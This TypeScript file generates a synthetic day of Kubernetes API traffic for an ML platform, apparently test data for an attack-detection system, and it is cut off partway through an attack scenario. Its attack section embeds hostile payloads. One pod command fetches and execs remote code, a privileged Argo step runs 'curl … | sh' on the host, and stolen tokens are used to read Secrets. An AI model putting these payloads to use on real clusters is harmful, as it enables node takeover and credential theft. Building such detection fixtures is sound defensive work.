import { attackKit, type AttackRequest, type DayEvent, lastScoredOf, LINUX, type Login, MAC, PLATFORM_HINT, prng, withAttacks, WS_UPGRADE } from './workday.js';

/**
 * A seventeenth replayed day, written as an outside red team and an outside observer would after
 * reading docs/risk.md, from situations days 1–16 do not have: an ML and data platform of about 25
 * people (Zürich and London), its API reached as `kubernetes.ml.meridian.example`. Warm-up Monday
 * 13 September 2027, scored Tuesday 14 September (hours UTC; Zürich is UTC+2, London UTC+1).
 *
 * Routine, as the tools send it:
 * - data scientists live in the browser: JupyterHub (a shared notebook server, one VM on the
 *   office network, every user's kernel behind its one address), MLflow's UI, Grafana, the Argo
 *   Workflows UI, the Ray dashboard; their kernels call the Kubernetes API with the user's own
 *   token from `~/.kube/config` (the Python client: `OpenAPI-Generator/31.0.0/python`): their
 *   training job's pods and logs, a PyTorchJob submitted from a notebook; kubectl on the laptop
 *   mostly for `port-forward` (TensorBoard), `logs` and `cp` (exec running tar), and their team's
 *   object-storage Secret now and then;
 * - ML engineers: Argo Workflows through the Argo CLI (`argo submit --from workflowtemplate/…`),
 *   PyTorchJobs with GPU requests by `kubectl apply`, Ray jobs through `ray job submit`
 *   (python-requests to the dashboard's `/api/jobs/`), KServe InferenceServices in `ml-staging` and
 *   `prod-inference` (a canary's traffic percentage patched), WorkflowTemplates updated by
 *   `kubectl apply`;
 * - the platform team: GPU node pools (the NVIDIA GPU operator's pods and logs, Karpenter NodePools,
 *   a spot GPU node cordoned), the MinIO tenant's credentials in `ml-storage`, Grafana;
 * - an ML engineer on call for serving: a latency incident on `prod-inference` at 16:00;
 * - a researcher travelling to a conference (the venue's Wi-Fi, then the hotel's), an intern on
 *   their first day (scored day only, the browser and a few kubectl reads);
 * - CI publishing a model to `ml-staging` every 30 minutes (its own token per job).
 *
 * The attacks (public tradecraft and incidents: ShadowRay's unauthenticated job API, pickled
 * models that run code when loaded, Argo templates as persistence, GPU crypto-mining with stolen
 * ML credentials, object stores' keys in Secrets): a token read out of a neighbour's kubeconfig on
 * the shared notebook server, used from that server; a pickled model in the registry whose loader
 * calls the API with the serving pod's ServiceAccount; a WorkflowTemplate given a privileged step,
 * and a ClusterWorkflowTemplate given a step that runs as Argo's own account; a Ray job submitted
 * through the gateway from outside; GPU miners in a quiet namespace at night; MinIO's root keys
 * read and MinIO port-forwarded; a production InferenceService's storageUri pointed at an outside
 * bucket; a Kubeflow profile shared with an outside identity through the access-management API;
 * a privileged Workflow created through the Argo Server's own API from a browser.
 */

export const D17_MON = Date.UTC(2027, 8, 13, 0, 0, 0); // warm-up
export const D17_TUE = Date.UTC(2027, 8, 14, 0, 0, 0); // scored
const H = 3_600_000;
const M = 60_000;
const S = 1000;

export const API = 'kubernetes.ml.meridian.example';
export const JUPYTER = 'jupyter.localhost';
export const MLFLOW = 'mlflow.localhost';
export const GRAFANA = 'grafana.localhost';
export const ARGO = 'argo.localhost';
export const RAY = 'ray.localhost';
export const KUBEFLOW = 'kubeflow.localhost';

/** The shared notebook server (one VM, every user's kernel behind it). */
export const NOTEBOOK_VM = '10.40.7.21';
/** The Zürich office's public NAT and the London office's. */
export const ZRH_OFFICE = '194.230.160.12';
export const LON_OFFICE = '81.2.69.160';
export const VENUE = '193.136.46.70';
export const HOTEL = '188.81.40.12';

export const KUBECTL = (os: string) => `kubectl/v1.31.2 (${os}) kubernetes/5864a46`;
export const PYCLIENT = 'OpenAPI-Generator/31.0.0/python';
/**
 * The Argo CLI in its default (Kubernetes API) mode: client-go's default agent with Argo's appended
 * (`restclient.AddUserAgent`, `argo-workflows/<version> argo-api-client`).
 */
export const ARGO_CLI = (os: string) => `argo/v0.0.0 (${os}) kubernetes/$Format/argo-workflows/v3.5.10 argo-api-client`;
export const RAY_CLI = 'python-requests/2.32.3';
const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36`;
const CH_UA = '"Chromium";v="128", "Not;A=Brand";v="24", "Google Chrome";v="128"';

export const JSON_CT = { 'content-type': 'application/json' };
export const MERGE = { 'content-type': 'application/merge-patch+json' };
const WS = WS_UPGRADE;
/** kubectl ≥ 1.31 tunnels a port-forward's SPDY streams over a WebSocket: a GET with an Upgrade (KEP-4006). */
const PORT_FORWARD = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'SPDY/3.1+portforward.k8s.io' };

type Where = 'zrh' | 'lon' | 'home' | 'venue' | 'hotel';
type Kind = 'ds' | 'mle' | 'platform' | 'intern';
type Sitting = [number, number, Where];

interface Person {
  name: string;
  short: string;
  idx: number;
  kind: Kind;
  team: string;
  os: string;
  kubectlOs: string;
  warm: Sitting[];
  scored: Sitting[];
  lunch: number;
  onCall?: boolean;
}

export const TEAMS = ['team-vision', 'team-nlp', 'team-recsys', 'team-forecast'];

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, kind: Kind, team: string, warm: Sitting[], scored: Sitting[], os = MAC, onCall = false) => {
    const j = () => (rand() - 0.5) * 0.4;
    out.push({
      name: `d17-${short}@meridian.example`,
      short,
      idx: out.length,
      kind,
      team,
      os,
      kubectlOs: os === MAC ? 'darwin/arm64' : 'linux/amd64',
      warm: warm.map(([a, b, w]) => [a + j(), b + j(), w]),
      scored: scored.map(([a, b, w]) => [a + j(), b + j(), w]),
      lunch: 11 + rand() * 0.8,
      ...(onCall ? { onCall } : {}),
    });
  };
  for (let i = 0; i < 8; i++) {
    const where: Where = i % 3 === 2 ? 'home' : i < 5 ? 'zrh' : 'lon';
    add(`ds-${i + 1}`, 'ds', TEAMS[i % 4]!, [[7 + (i % 3) * 0.5, 16 + (i % 3) * 0.5, where]], [[7 + (i % 3) * 0.5, 16 + (i % 3) * 0.5, where]], i % 2 ? LINUX : MAC);
  }
  // The researcher at the conference in Porto: the venue's Wi-Fi all day, the hotel in the evening.
  add('researcher', 'ds', 'team-nlp', [[7, 16, 'zrh']], [[8, 15.5, 'venue'], [18, 20.5, 'hotel']], MAC);
  for (let i = 0; i < 6; i++) {
    const where: Where = i % 2 ? 'lon' : 'zrh';
    add(`mle-${i + 1}`, 'mle', TEAMS[i % 4]!, [[7 + (i % 2), 16 + (i % 2), where]], i === 5 ? [[8, 13, 'lon'], [13.5, 18, 'home']] : [[7 + (i % 2), 16 + (i % 2), where]], i % 3 === 1 ? LINUX : MAC, i === 2);
  }
  for (let i = 0; i < 4; i++) add(`platform-${i + 1}`, 'platform', 'platform', [[6.5 + i * 0.3, 15.5 + i * 0.3, i % 2 ? 'lon' : 'zrh']], [[6.5 + i * 0.3, 15.5 + i * 0.3, i % 2 ? 'lon' : 'zrh']], LINUX);
  add('intern', 'intern', 'team-vision', [], [[8.5, 16.5, 'zrh']], MAC);
  return out;
}

function addressOf(p: Person, where: Where, k: number): string {
  switch (where) {
    case 'zrh':
      return ZRH_OFFICE;
    case 'lon':
      return LON_OFFICE;
    case 'home':
      return p.idx % 2 ? `178.197.${200 + p.idx}.${10 + p.idx}` : `86.${140 + p.idx}.${30 + p.idx}.${5 + (k % 3)}`;
    case 'venue':
      return VENUE;
    case 'hotel':
      return HOTEL;
  }
}

type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string; ua?: string; browser?: boolean; ip?: string };

const pod = (team: string, rand: () => number) => `${team.slice(5)}-train-${['x7k2p', 'q9m4w', 'r2d8n'][Math.floor(rand() * 3)]}-worker-${Math.floor(rand() * 2)}`;

/** A PyTorchJob as `kubectl apply -f` (or the notebook's Python client) creates it: GPUs from the spot pool. */
export function pytorchJob(ns: string, name: string, gpus: number, workers: number, image: string, command: string[] = ['torchrun', '--nproc_per_node=gpu', 'train.py']): string {
  const replica = (n: number) => ({
    replicas: n,
    restartPolicy: 'OnFailure',
    template: {
      spec: {
        tolerations: [{ key: 'nvidia.com/gpu', operator: 'Exists', effect: 'NoSchedule' }, { key: 'karpenter.sh/capacity-type', value: 'spot', effect: 'NoSchedule' }],
        nodeSelector: { 'karpenter.sh/capacity-type': 'spot' },
        containers: [{ name: 'pytorch', image, command, resources: { limits: { 'nvidia.com/gpu': gpus, memory: '64Gi' } } }],
      },
    },
  });
  return JSON.stringify({ apiVersion: 'kubeflow.org/v1', kind: 'PyTorchJob', metadata: { name, namespace: ns }, spec: { pytorchReplicaSpecs: { Master: replica(1), Worker: replica(workers) } } });
}

/** `argo submit --from workflowtemplate/train-and-publish`: a Workflow that names the template. */
function argoSubmit(ns: string, rand: () => number): string {
  return JSON.stringify({
    namespace: ns,
    serverDryRun: false,
    workflow: { metadata: { generateName: 'train-and-publish-', namespace: ns }, spec: { workflowTemplateRef: { name: 'train-and-publish' }, arguments: { parameters: [{ name: 'dataset', value: `s3://meridian-datasets/clicks/2027-09-${10 + Math.floor(rand() * 4)}` }] } } },
  });
}

/** A WorkflowTemplate as the ML engineers keep it in Git and `kubectl apply` it. */
export function workflowTemplate(extraSteps: unknown[] = [], extraTemplates: unknown[] = []): Record<string, unknown> {
  return {
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'WorkflowTemplate',
    metadata: { name: 'train-and-publish', namespace: 'ml-pipelines' },
    spec: {
      entrypoint: 'main',
      serviceAccountName: 'pipeline-runner',
      arguments: { parameters: [{ name: 'dataset' }] },
      templates: [
        { name: 'main', steps: [[{ name: 'train', template: 'train' }], [{ name: 'publish', template: 'publish' }], ...extraSteps] },
        { name: 'train', container: { image: 'registry.meridian.example/ml/trainer:2.4.1', command: ['python', 'train.py', '{{workflow.parameters.dataset}}'], resources: { limits: { 'nvidia.com/gpu': 1 } } } },
        { name: 'publish', container: { image: 'registry.meridian.example/ml/publisher:1.9.0', command: ['python', 'publish.py'] } },
        ...extraTemplates,
      ],
    },
  };
}

/** A data scientist's sitting: the notebook (browser and kernel), MLflow, their job's logs, TensorBoard. */
function dsTask(rand: () => number, p: Person): Req[] {
  const k = rand();
  const ns = p.team;
  const user = p.short;
  const po = pod(ns, rand);
  const kernel = (q: Req): Req => ({ ...q, ua: PYCLIENT, ip: NOTEBOOK_VM });
  if (k < 0.25)
    return [
      { method: 'GET', host: JUPYTER, path: `/user/${user}/api/kernels`, browser: true },
      { method: 'GET', host: JUPYTER, path: `/user/${user}/api/contents/experiments/${['baseline', 'ablation', 'eval'][Math.floor(rand() * 3)]}.ipynb?content=1`, browser: true },
      kernel({ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=training.kubeflow.org%2Fjob-name` }),
      kernel({ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=pytorch&tailLines=100` }),
    ];
  if (k < 0.4)
    return [
      { method: 'POST', host: MLFLOW, path: '/ajax-api/2.0/mlflow/runs/search', headers: JSON_CT, body: JSON.stringify({ experiment_ids: [String(10 + (p.idx % 4))], max_results: 100, order_by: ['attributes.start_time DESC'] }), browser: true },
      { method: 'GET', host: MLFLOW, path: `/ajax-api/2.0/mlflow/metrics/get-history?run_uuid=${Math.floor(rand() * 1e12).toString(16)}&metric_key=val_loss`, browser: true },
    ];
  if (k < 0.5)
    return [
      kernel({ method: 'POST', path: `/apis/kubeflow.org/v1/namespaces/${ns}/pytorchjobs`, headers: JSON_CT, body: pytorchJob(ns, `${user}-sweep-${Math.floor(rand() * 1e5).toString(36)}`, 1, 1, 'registry.meridian.example/ml/trainer:2.4.1') }),
      kernel({ method: 'GET', path: `/apis/kubeflow.org/v1/namespaces/${ns}/pytorchjobs?limit=50` }),
    ];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=pytorch&follow=true&tailLines=50` }];
  if (k < 0.68) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3Dtensorboard` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/tensorboard-${user}-0/portforward`, headers: PORT_FORWARD }];
  if (k < 0.74)
    // `kubectl cp team-x/<pod>:/outputs/metrics.json .`: exec running tar.
    return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/exec?command=tar&command=cf&command=-&command=%2Foutputs%2Fmetrics.json&container=pytorch&stderr=true&stdout=true`, headers: WS }];
  if (k < 0.78) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/s3-credentials` }];
  if (k < 0.9) return [{ method: 'GET', host: GRAFANA, path: '/api/dashboards/uid/gpu-utilisation', browser: true }, { method: 'POST', host: GRAFANA, path: '/api/ds/query?ds_type=prometheus', headers: JSON_CT, body: JSON.stringify({ queries: [{ refId: 'A', expr: `avg by (pod) (DCGM_FI_DEV_GPU_UTIL{namespace="${ns}"})` }], from: 'now-6h', to: 'now' }), browser: true }];
  if (k < 0.95) return [{ method: 'GET', host: ARGO, path: `/api/v1/workflows/${ns}?listOptions.limit=50`, browser: true }, { method: 'GET', host: RAY, path: '/api/jobs/', browser: true }];
  // Kubeflow's central dashboard: the profile's contributors and the pipeline runs.
  return [{ method: 'GET', host: KUBEFLOW, path: `/api/workgroup/env-info`, browser: true }, { method: 'GET', host: KUBEFLOW, path: `/kfam/v1/bindings?namespace=${ns}`, browser: true }, { method: 'GET', host: KUBEFLOW, path: `/pipeline/apis/v2beta1/runs?namespace=${ns}&page_size=20&sort_by=created_at%20desc`, browser: true }];
}

/** An ML engineer's sitting: Argo, PyTorchJobs, Ray jobs, the models being served. */
function mleTask(rand: () => number, p: Person, canEditTemplates: boolean): Req[] {
  const k = rand();
  const ns = p.team;
  if (k < 0.2) return [{ method: 'GET', host: ARGO, path: '/api/v1/workflows/ml-pipelines?listOptions.labelSelector=workflows.argoproj.io%2Fworkflow-template%3Dtrain-and-publish', browser: true }, { method: 'GET', host: ARGO, path: '/api/v1/workflow-templates/ml-pipelines', browser: true }];
  if (k < 0.3)
    return [
      { method: 'POST', path: '/apis/argoproj.io/v1alpha1/namespaces/ml-pipelines/workflows', headers: JSON_CT, ua: ARGO_CLI(p.kubectlOs), body: argoSubmit('ml-pipelines', rand) },
      { method: 'GET', path: '/apis/argoproj.io/v1alpha1/namespaces/ml-pipelines/workflows?labelSelector=workflows.argoproj.io%2Fcompleted%21%3Dtrue', ua: ARGO_CLI(p.kubectlOs) },
    ];
  if (k < 0.42) {
    const name = `${ns.slice(5)}-finetune-${Math.floor(rand() * 1e5).toString(36)}`;
    return [
      { method: 'POST', path: `/apis/kubeflow.org/v1/namespaces/${ns}/pytorchjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: JSON_CT, body: pytorchJob(ns, name, 8, 3, 'registry.meridian.example/ml/trainer:2.4.1') },
      { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=training.kubeflow.org%2Fjob-name%3D${name}` },
    ];
  }
  if (k < 0.52)
    return [
      { method: 'POST', host: RAY, path: '/api/jobs/', ua: RAY_CLI, headers: JSON_CT, body: JSON.stringify({ entrypoint: 'python batch_infer.py --shards 64', runtime_env: { working_dir: 'gcs://_ray_pkg_5b1c0a9e.zip', pip: ['pyarrow==17.0.0'] }, metadata: { job_submission_id: '' } }) },
      { method: 'GET', host: RAY, path: `/api/jobs/raysubmit_${Math.floor(rand() * 1e12).toString(36)}`, ua: RAY_CLI },
    ];
  if (k < 0.62) return [{ method: 'GET', path: '/apis/serving.kserve.io/v1beta1/namespaces/ml-staging/inferenceservices?limit=500' }, { method: 'GET', path: '/apis/serving.kserve.io/v1beta1/namespaces/prod-inference/inferenceservices/fraud-scorer' }];
  if (k < 0.67)
    return [
      { method: 'GET', path: '/apis/serving.kserve.io/v1beta1/namespaces/prod-inference/inferenceservices/recsys-ranker' },
      { method: 'PATCH', path: '/apis/serving.kserve.io/v1beta1/namespaces/prod-inference/inferenceservices/recsys-ranker?fieldManager=kubectl-patch', headers: MERGE, body: JSON.stringify({ spec: { predictor: { canaryTrafficPercent: [10, 25, 50, 100][Math.floor(rand() * 4)] } } }) },
    ];
  if (k < 0.72 && canEditTemplates)
    return [
      { method: 'GET', path: '/apis/argoproj.io/v1alpha1/namespaces/ml-pipelines/workflowtemplates/train-and-publish' },
      { method: 'PATCH', path: '/apis/argoproj.io/v1alpha1/namespaces/ml-pipelines/workflowtemplates/train-and-publish?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', headers: MERGE, body: JSON.stringify({ spec: workflowTemplate().spec }) },
    ];
  if (k < 0.8) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod(ns, rand)}/log?container=pytorch&tailLines=200` }];
  if (k < 0.84) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/s3-credentials` }];
  if (k < 0.92) return [{ method: 'POST', host: MLFLOW, path: '/ajax-api/2.0/mlflow/registered-models/search', headers: JSON_CT, body: JSON.stringify({ max_results: 100 }), browser: true }, { method: 'GET', host: ARGO, path: '/api/v1/workflows/ml-pipelines?listOptions.limit=50', browser: true }];
  return [{ method: 'GET', path: '/api/v1/namespaces/prod-inference/pods?labelSelector=serving.kserve.io%2Finferenceservice%3Dfraud-scorer' }, { method: 'GET', path: '/api/v1/namespaces/prod-inference/pods/fraud-scorer-predictor-00042-deployment-7c9d8-k2lmx/log?container=kserve-container&tailLines=200' }];
}

/** The platform team: GPU nodes and their operator, Karpenter, MinIO, Grafana. */
function platformTask(rand: () => number): Req[] {
  const k = rand();
  if (k < 0.2) return [{ method: 'GET', path: '/api/v1/nodes?labelSelector=nvidia.com%2Fgpu.present%3Dtrue&limit=500' }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }];
  if (k < 0.35) return [{ method: 'GET', path: '/api/v1/namespaces/gpu-operator/pods?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/gpu-operator/pods/nvidia-device-plugin-daemonset-${['4tq8n', 'x9r2m', 'c7kpl'][Math.floor(rand() * 3)]}/log?container=nvidia-device-plugin&tailLines=200` }];
  if (k < 0.5) return [{ method: 'GET', path: '/apis/karpenter.sh/v1/nodepools?limit=500' }, { method: 'GET', path: '/apis/karpenter.sh/v1/nodeclaims?limit=500' }];
  if (k < 0.57) {
    const node = `ip-10-42-${Math.floor(rand() * 200)}-${Math.floor(rand() * 200)}.eu-central-1.compute.internal`;
    // `kubectl cordon` of a spot GPU node given its interruption notice.
    return [{ method: 'GET', path: `/api/v1/nodes/${node}` }, { method: 'PATCH', path: `/api/v1/nodes/${node}?fieldManager=kubectl-cordon`, headers: { 'content-type': 'application/strategic-merge-patch+json' }, body: JSON.stringify({ spec: { unschedulable: true } }) }];
  }
  if (k < 0.65) return [{ method: 'GET', path: '/api/v1/namespaces/ml-storage/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/ml-storage/secrets/minio-root-credentials' }];
  if (k < 0.72) return [{ method: 'GET', path: '/apis/minio.min.io/v2/namespaces/ml-storage/tenants/models' }, { method: 'GET', path: '/api/v1/namespaces/ml-storage/pods/models-pool-0-0/log?container=minio&tailLines=100' }];
  if (k < 0.8) return [{ method: 'GET', path: '/api/v1/namespaces/kserve/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/argo/pods?limit=500' }];
  if (k < 0.9) return [{ method: 'GET', host: GRAFANA, path: '/api/dashboards/uid/gpu-fleet', browser: true }, { method: 'POST', host: GRAFANA, path: '/api/ds/query?ds_type=prometheus', headers: JSON_CT, body: JSON.stringify({ queries: [{ refId: 'A', expr: 'sum by (node) (DCGM_FI_DEV_GPU_UTIL)' }], from: 'now-3h', to: 'now' }), browser: true }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${TEAMS[Math.floor(rand() * 4)]}/resourcequotas?limit=500` }, { method: 'GET', path: '/api/v1/events?fieldSelector=reason%3DFailedScheduling&limit=500' }];
}

/** The intern's first day: the notebook, their team's pods and a log, MLflow. */
function internTask(rand: () => number, p: Person): Req[] {
  const k = rand();
  if (k < 0.5) return [{ method: 'GET', host: JUPYTER, path: `/user/${p.short}/api/kernels`, browser: true }, { method: 'GET', host: JUPYTER, path: `/user/${p.short}/api/contents/onboarding/01-data.ipynb?content=1`, browser: true }];
  if (k < 0.8) return [{ method: 'GET', path: `/api/v1/namespaces/${p.team}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${p.team}/pods/${pod(p.team, rand)}/log?container=pytorch&tailLines=50` }];
  return [{ method: 'POST', host: MLFLOW, path: '/ajax-api/2.0/mlflow/runs/search', headers: JSON_CT, body: JSON.stringify({ experiment_ids: ['10'], max_results: 25 }), browser: true }];
}

/** The serving incident at 16:00: fraud-scorer's latency; pods, logs, events, the canary rolled back, a stuck pod deleted. */
function incident(rand: () => number): Req[] {
  const k = rand();
  const po = `fraud-scorer-predictor-00042-deployment-7c9d8-${['k2lmx', 'p8wq2', 'z4nfr'][Math.floor(rand() * 3)]}`;
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/namespaces/prod-inference/pods?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/prod-inference/pods/${po}/log?container=kserve-container&tailLines=500` }];
  if (k < 0.5) return [{ method: 'GET', path: '/api/v1/namespaces/prod-inference/events?limit=500' }, { method: 'GET', path: '/apis/serving.kserve.io/v1beta1/namespaces/prod-inference/inferenceservices/fraud-scorer' }];
  if (k < 0.65) return [{ method: 'PATCH', path: '/apis/serving.kserve.io/v1beta1/namespaces/prod-inference/inferenceservices/fraud-scorer?fieldManager=kubectl-patch', headers: MERGE, body: JSON.stringify({ spec: { predictor: { canaryTrafficPercent: 0 } } }) }];
  if (k < 0.75) return [{ method: 'DELETE', path: `/api/v1/namespaces/prod-inference/pods/${po}` }];
  if (k < 0.85) return [{ method: 'GET', path: `/api/v1/namespaces/prod-inference/pods/${po}/exec?command=sh&container=kserve-container&stdin=true&stdout=true&tty=true`, headers: WS }];
  return [{ method: 'GET', host: GRAFANA, path: '/api/dashboards/uid/kserve-latency', browser: true }];
}

export function workday17(seed = 151): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 17);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const day of [D17_MON, D17_TUE]) {
    const scored = day === D17_TUE;
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const sittings = scored ? p.scored : p.warm;
      const mine: DayEvent[] = [];
      let login: Login | undefined;
      let last = -Infinity;
      let n = 0;
      for (const [from, to, where] of sittings) {
        // A sign-in at the start of a sitting more than 2 hours after the last one (the
        // researcher's evening at the hotel is a new one); browser, kubectl and kubelogin share it.
        if (login === undefined || from - last > 2) login = { sub: p.name, sid: `${p.name}:${day}:${Math.round(from * 10)}`, authTime: Math.floor((at(from) - 40 * S) / 1000), acr: 'urn:stepgate:aal2' };
        last = to;
        const l = login;
        const push = (t: number, q: Req) => {
          const browser = q.browser === true;
          const ip = q.ip ?? addressOf(p, where, n);
          const ua = q.ua ?? (browser ? CHROME(p.os) : KUBECTL(p.kubectlOs));
          const hints = browser ? { 'sec-ch-ua': CH_UA, 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': PLATFORM_HINT[p.os]! } : undefined;
          const headers = hints || q.headers ? { ...hints, ...q.headers } : undefined;
          n++;
          mine.push({ at: Math.round(t), actor: p.name, scored, ip, ua, login: l, method: q.method, path: q.path, host: q.host ?? API, ...(headers ? { headers } : {}), ...(q.body !== undefined ? { body: q.body } : {}) });
        };
        let t = at(from);
        while (t < at(to)) {
          const h = (t - day) / H;
          if (h >= p.lunch && h < p.lunch + 0.75 && from < p.lunch && to > p.lunch + 0.75) {
            t = at(p.lunch + 0.75) + S;
            continue;
          }
          let reqs: Req[];
          if (p.onCall && scored && h >= 16 && h < 16.6) reqs = incident(rand);
          else if (p.kind === 'ds') reqs = dsTask(rand, p);
          else if (p.kind === 'mle') reqs = mleTask(rand, p, p.idx % 3 === 0);
          else if (p.kind === 'platform') reqs = platformTask(rand);
          else reqs = internTask(rand, p);
          const gap = 800 + rand() * 2000;
          reqs.forEach((q, k) => push(t + k * gap, q));
          t += p.onCall && scored && h >= 16 && h < 16.6 ? 1 * M + rand() * 2 * M : 5 * M + rand() * 12 * M;
        }
      }
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    // CI: a model published to ml-staging every 30 minutes, each job its own token.
    for (let j = 0; j < 24; j++) {
      const t = day + 7 * H + j * 30 * M;
      const ci: Login = { sub: 'ci-models@meridian.example', sid: `ci:${day}:${j}`, authTime: Math.floor(t / 1000), acr: 'urn:stepgate:aal1' };
      const ip = `10.30.${j % 4}.${10 + (j % 50)}`;
      const ua = 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46';
      const uri = `s3://meridian-models/recsys-ranker/${day / 1000}-${j}`;
      events.push({ at: t, actor: 'ci', scored, ip, ua, login: ci, method: 'PATCH', path: '/apis/serving.kserve.io/v1beta1/namespaces/ml-staging/inferenceservices/recsys-ranker?fieldManager=kubectl-patch', host: API, headers: MERGE, body: JSON.stringify({ spec: { predictor: { model: { storageUri: uri } } } }) });
      events.push({ at: t + 5000, actor: 'ci', scored, ip, ua, login: ci, method: 'GET', path: '/apis/serving.kserve.io/v1beta1/namespaces/ml-staging/inferenceservices/recsys-ranker', host: API });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks17(people, events));
}

/** The bucket a KServe InferenceService is pointed at by the attacker (a lookalike of the company's). */
export const ATTACKER_BUCKET = 's3://meridian-models-backup-eu/fraud-scorer/v42';

/**
 * The site's edit of the example (session 50): where its models come from, in
 * `guardrails.model_sources` (the example lists none: it cannot know a company's buckets). Its
 * model registry's bucket (CI publishes every model there), its own Hugging Face organisation,
 * and claims of the cluster (`pvc://`). The look-alike `meridian-models-backup-eu` is not its
 * bucket: the entry matches `s3://meridian-models` at a path boundary. Inserted before
 * `host_owners` in the guardrails section; nothing else is changed.
 */
export function SITE(yaml: string): string {
  const owners = '\n  host_owners:\n';
  const at = yaml.indexOf(owners);
  if (at < 0) throw new Error('day 17: the example no longer has guardrails.host_owners');
  const models = '  model_sources: [s3://meridian-models, "hf://meridian/*", pvc://]\n';
  return `${yaml.slice(0, at + 1)}${models}${yaml.slice(at + 1)}`;
}

function attacks17(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on } = attackKit(out, people, D17_TUE, API);
  const kubectl = (x: DayEvent) => x.ua.startsWith('kubectl/') && x.host === API;
  const onLaptop = (attack: string, p: Person, h: number, reqs: AttackRequest[], gapMs: number) => {
    const v = lastScoredOf(routine, p.name, T(h), kubectl);
    add(attack, T(h), v.ip, v.ua, v.login, on(reqs), gapMs, p);
  };

  // 1. The shared notebook server: another user's kernel (a colleague's, or a compromised pip
  // package in it) reads ds-2's ~/.kube/config (home directories readable on the VM) and uses the
  // token from that same VM with the same Python client: the registry's and the object store's keys.
  const ds2 = by('ds-2');
  const k2 = lastScoredOf(routine, ds2.name, T(13.8), (x) => x.ua === PYCLIENT);
  add("a neighbour's kernel on the shared notebook server uses a data scientist's kubeconfig", T(13.8), NOTEBOOK_VM, PYCLIENT, k2.login, on([
    ['GET', `/api/v1/namespaces/${ds2.team}/pods?limit=500`, false],
    ['GET', '/api/v1/namespaces/ml-registry/secrets/mlflow-artifact-store', true],
    ['GET', '/api/v1/namespaces/ml-storage/secrets/minio-root-credentials', true],
    ['GET', '/api/v1/namespaces/prod-inference/secrets/storage-config', true],
  ]), 6 * S, ds2);

  // 2. A pickled model in the registry whose __reduce__ runs when the predictor loads it: the
  // payload calls the API with the serving pod's ServiceAccount token, from the pod's address.
  const sa: Login = { sub: 'system:serviceaccount:prod-inference:fraud-scorer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  add("a pickled model loaded by a production predictor calls the API as its ServiceAccount", T(10.1), '10.244.17.33', 'Python-urllib/3.11', sa, on([
    ['GET', '/api/v1/namespaces/prod-inference/configmaps?limit=500', false],
    ['GET', '/api/v1/namespaces/prod-inference/secrets/storage-config', true],
    ['POST', '/api/v1/namespaces/prod-inference/pods', true, JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'fraud-scorer-warmup', namespace: 'prod-inference' }, spec: { serviceAccountName: 'fraud-scorer', containers: [{ name: 'w', image: 'python:3.11-slim', command: ['python', '-c', 'import urllib.request as u;exec(u.urlopen("https://pastebin.example/raw/x1").read())'] }] } })],
  ]), 2 * S);

  // 3. Malware on an ML engineer's laptop (one who keeps the pipeline's templates) gives the
  // nightly training template a privileged step mounting the node: every later run executes it.
  const mle1 = by('mle-1');
  const tpl = workflowTemplate([[{ name: 'cache-warm', template: 'cache-warm' }]], [{ name: 'cache-warm', volumes: [{ name: 'host', hostPath: { path: '/' } }], container: { image: 'registry.meridian.example/ml/cache:1.0', command: ['sh', '-c', 'chroot /host sh -c "curl -s https://198.51.100.23/k | sh"'], securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] } }]);
  onLaptop('a WorkflowTemplate given a privileged step that every later run executes (ML engineer laptop)', mle1, 11.3, [
    ['GET', '/apis/argoproj.io/v1alpha1/namespaces/ml-pipelines/workflowtemplates/train-and-publish', false],
    ['PATCH', '/apis/argoproj.io/v1alpha1/namespaces/ml-pipelines/workflowtemplates/train-and-publish?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', true, MERGE, JSON.stringify({ spec: tpl.spec })],
  ], 9 * S);

  // 3b. The same foothold without anything privileged: a ClusterWorkflowTemplate every team's
  // pipelines reference gets a step that runs as Argo's own server account and posts every
  // Secret it can list to an outside host.
  const mle4 = by('mle-4');
  onLaptop("a ClusterWorkflowTemplate given a step running as Argo's account (ML engineer laptop)", mle4, 14.6, [
